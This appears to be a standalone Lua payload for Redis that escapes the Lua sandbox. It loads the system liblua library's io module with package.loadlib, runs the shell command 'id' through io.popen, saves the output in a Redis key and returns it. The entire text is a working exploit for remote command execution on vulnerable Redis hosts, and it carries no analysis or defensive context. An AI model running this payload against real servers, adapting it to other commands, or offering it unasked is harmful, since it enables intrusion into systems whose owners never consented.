local open = package.loadlib("/usr/lib/x86_64-linux-gnu/liblua5.1.so.0", "luaopen_io")
local io = open()
local f = io.popen("id", "r")
local out = f:read("*a")
f:close()
redis.call("SET", "out", out)
return out
